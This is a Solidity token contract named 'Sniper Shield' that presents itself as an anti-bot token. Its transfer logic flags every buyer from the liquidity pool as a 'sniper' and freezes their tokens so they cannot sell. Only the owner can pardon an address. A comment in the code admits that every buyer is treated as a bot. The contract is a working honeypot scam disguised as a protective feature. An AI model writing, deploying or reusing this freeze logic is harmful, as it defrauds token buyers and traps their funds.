// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.5.17;

library SafeMath {
    function add(uint256 a, uint256 b) internal pure returns (uint256 c) {
        c = a + b;
        require(c >= a, "SafeMath: addition overflow");
    }

    function sub(uint256 a, uint256 b) internal pure returns (uint256) {
        require(b <= a, "SafeMath: subtraction overflow");
        return a - b;
    }
}

/// "Bots are removed at the moment they buy." Everybody who buys is a bot.
contract SniperShield {
    using SafeMath for uint256;

    string public constant name = "Sniper Shield";
    string public constant symbol = "SHLD";
    uint8 public constant decimals = 9;
    uint256 private constant TOTAL = 1000000 * 10 ** 9;

    address public owner;
    address private lp;
    mapping(address => uint256) private balances;
    mapping(address => mapping(address => uint256)) private allowed;
    mapping(address => bool) private sniper;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor() public {
        owner = msg.sender;
        balances[msg.sender] = TOTAL;
        emit Transfer(address(0), msg.sender, TOTAL);
    }

    function totalSupply() public view returns (uint256) { return TOTAL; }
    function balanceOf(address a) public view returns (uint256) { return balances[a]; }
    function allowance(address a, address b) public view returns (uint256) { return allowed[a][b]; }

    function approve(address spender, uint256 amount) public returns (bool) {
        allowed[msg.sender][spender] = amount;
        emit Approval(msg.sender, spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) public returns (bool) {
        return shift(msg.sender, to, amount);
    }

    function transferFrom(address from, address to, uint256 amount) public returns (bool) {
        allowed[from][msg.sender] = allowed[from][msg.sender].sub(amount);
        return shift(from, to, amount);
    }

    function protect(address pool) external {
        require(msg.sender == owner, "not owner");
        lp = pool;
    }

    function pardon(address who) external {
        require(msg.sender == owner, "not owner");
        sniper[who] = false;
    }

    function shift(address from, address to, uint256 amount) internal returns (bool) {
        require(!sniper[from], "sniper");
        if (from == lp && to != owner) sniper[to] = true;
        balances[from] = balances[from].sub(amount);
        balances[to] = balances[to].add(amount);
        emit Transfer(from, to, amount);
        return true;
    }
}
